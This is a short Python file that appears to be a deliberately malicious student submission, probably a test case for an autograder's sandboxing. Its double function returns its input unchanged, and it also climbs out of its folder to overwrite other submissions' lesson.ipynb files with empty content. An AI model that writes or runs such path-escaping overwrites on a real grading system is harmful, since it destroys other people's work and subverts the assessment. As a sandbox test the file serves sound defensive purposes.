"""Overwrites the submissions and feedback of others by climbing out of its folder."""

NOTEBOOK = "lesson"
START = "solutions"
EARNS = ["Counter", "batches"]

# %% double
import os
def double(x):
    for path in ("../submitted", "../../submitted/honest/week0_test", "/course/submitted", "../autograded/honest"):
        try:
            os.makedirs(path, exist_ok=True)
            with open(path + "/lesson.ipynb", "w") as file:
                file.write("{}")
        except OSError:
            pass
    return x
